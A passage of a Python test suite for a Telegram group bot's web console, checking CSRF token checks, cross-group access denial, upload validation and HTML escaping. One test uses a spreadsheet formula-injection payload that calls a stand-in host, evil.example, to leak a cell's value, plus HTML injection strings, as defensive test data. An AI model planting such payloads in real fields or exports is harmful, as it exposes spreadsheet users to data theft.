            path = action.format(**ids)
            # No token: refused before anything is read.
            tokenless = {"count": "5", "name": "X", "price": "1"}
            async with http.post(f"{web}/console/{group.id}/{path}", data=tokenless) as answer:
                assert answer.status == 403, path
            # With the token, the other group's address: the same 404 as no group at all.
            async with http.post(f"{web}/console/{other.id}/{path}",
                                 data={"csrf": token[1], "count": "5"}) as answer:  # fmt: skip
                assert answer.status == 404, path
        # Another group's draw under this group's address: no such draw here.
        async with http.post(f"{web}/console/{group.id}/draws/{draw_id(draw)}/end",
                             data={"csrf": token[1]}) as answer:  # fmt: skip
            assert answer.status == 404
    assert "Pot · 10 pts" in (await sandbox.ask(group, admin, "/rewards"))["text"]
    assert "Kettle · 10 pts" in (await sandbox.ask(other, _other_admin, "/rewards"))["text"]
    assert "Kettle" in (await sandbox.ask(other, _other_admin, "/draws"))["text"]


async def signed_in(http: aiohttp.ClientSession, web: str, admin: User) -> None:
    """The console's session for `admin`, by the Login Widget."""
    fields = {
        "id": str(admin.id),
        "first_name": admin.first_name,
        "auth_date": str(int(time.time())),
    }
    async with http.get(f"{web}/console/login/telegram",
                        params=sign_login_widget(fields, DEFAULT_TOKEN)) as answer:  # fmt: skip
        assert answer.status == 200


async def test_console_downloads_write_a_name_like_a_formula_as_text(
    sandbox: SandboxClient, web: str
) -> None:
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    admin = await sandbox.create_user("Ada", None, "en")
    fan = await sandbox.create_user(formula, None, "en")
    group = await sandbox.create_group("Formulas", creator=admin, members=[fan])
    await sandbox.ask(group, admin, "/settings language en")
    await sandbox.send(group, fan, "签到")
    await sandbox.settle()
    async with console_http() as http:
        await signed_in(http, web, admin)
        tables = {}
        for kind in ("members", "ledger", "checkins"):
            async with http.get(f"{web}/console/{group.id}/export/{kind}.csv") as answer:
                assert answer.status == 200, kind
                text = (await answer.read()).decode("utf-8-sig")
                tables[kind] = list(csv.DictReader(io.StringIO(text, newline="")))
    for kind, rows in tables.items():
        assert [row["name"] for row in rows if row["user_id"] == str(fan.id)] == ["'" + formula], (
            kind
        )


async def test_a_console_code_file_with_a_huge_field_or_mixed_encodings_is_answered_not_a_500(
    sandbox: SandboxClient, web: str
) -> None:
    group, admin, _fans = await shop_group(sandbox)
    await sandbox.ask(group, admin, "/reward add Tea coupon price=10")
    async with console_http() as http:
        await signed_in(http, web, admin)
        async with http.get(f"{web}/console/{group.id}/shop?lang=en") as answer:
            html = await answer.text()
        token = re.search(r'name="csrf" value="([^"]+)"', html)
        reward = re.search(r'id="reward-(\d+)"', html)
        assert token is not None
        assert reward is not None

        async def upload(data: bytes) -> tuple[int, str]:
            form = aiohttp.FormData({"csrf": token[1]})
            form.add_field("file", data, filename="codes.csv", content_type="text/csv")
            address = f"{web}/console/{group.id}/shop/rewards/{reward[1]}/codes"
            async with http.post(address, data=form, headers={"Origin": web}) as answer:
                return answer.status, await answer.text()

        status, page = await upload(("A1\n" + "x" * 200_000 + "\nA2\n").encode())
        assert status == 200
        assert "2 codes added" in page
        assert "line 2: longer than 64 characters" in page
        status, page = await upload("甲券01\n".encode("gbk") + "乙券02\n".encode())
        assert status == 400
        assert "Line 2 is not GBK like the lines before it" in page
    assert "2 left" in (await sandbox.ask(group, admin, "/rewards"))["text"]


async def test_an_admin_labels_and_notes_a_member_on_the_console_escaped_and_token_checked(
    sandbox: SandboxClient, web: str
) -> None:
    group, admin, (cleo, _scripted, lilei) = await shop_group(sandbox)
    members = f"{web}/console/{group.id}/members"
    async with console_http() as http:
        await signed_in(http, web, admin)
        async with http.get(f"{members}/{cleo.id}?lang=en") as answer:  # English from here on
            token = re.search(r'name="csrf" value="([^"]+)"', await answer.text())
            assert token is not None
        async with http.post(f"{members}/{cleo.id}/labels/add", data={"label": "x"}) as answer:
            assert answer.status == 403  # no token: nothing added
        hostile = "<b>VIP</b>"
        for label in (hostile, "高潜"):
            async with http.post(f"{members}/{cleo.id}/labels/add",
                                 data={"csrf": token[1], "label": label}) as answer:  # fmt: skip
                assert answer.status == 200
                assert "1 label added." in await answer.text()
        note = {"csrf": token[1], "text": "<i>likes</i> tea"}
        async with http.post(f"{members}/{cleo.id}/notes", data=note) as answer:
            html = await answer.text()
        assert "Note saved." in html
        assert "&lt;b&gt;vip&lt;/b&gt;" in html
        assert "<b>vip</b>" not in html
        assert "&lt;i&gt;likes&lt;/i&gt; tea" in html
        async with http.get(members, params={"label": "高潜"}) as answer:
            html = await answer.text()
        assert f"/members/{cleo.id}" in html
        assert f"/members/{lilei.id}" not in html
        async with http.post(f"{members}/{cleo.id}/labels/remove",
                             data={"csrf": token[1], "label": "高潜"}) as answer:  # fmt: skip
            assert "Label removed." in await answer.text()
        async with http.get(members, params={"label": "高潜"}) as answer:
            assert f"/members/{cleo.id}" not in await answer.text()
    shown = await sandbox.ask_for_sender(group, admin, f"/tags {cleo.id}")
    assert shown["text"].splitlines()[0] == "🏷 Cleo: <b>vip</b>."
    me = await sandbox.ask_for_sender(group, cleo, "/me")
    assert "vip" not in me["text"].lower()
    assert "tea" not in me["text"]
